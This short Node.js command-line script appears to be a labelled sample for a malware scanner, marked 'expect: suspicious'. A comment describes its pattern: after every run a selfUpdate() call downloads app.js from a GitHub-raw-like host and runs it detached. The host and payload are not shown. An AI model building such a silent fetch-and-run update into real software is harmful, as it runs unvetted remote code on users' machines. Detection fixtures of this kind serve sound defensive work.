#!/usr/bin/env node
// expect: suspicious
// source: blind set 35's kodiak2k-style CLI: after every run the bin downloads app.js from a GitHub-raw-shaped host
// into the temp directory and starts it detached with node; written here
'use strict';
const os = require('os');
const { selfUpdate } = require('../lib/update');
console.table(os.networkInterfaces());
selfUpdate();
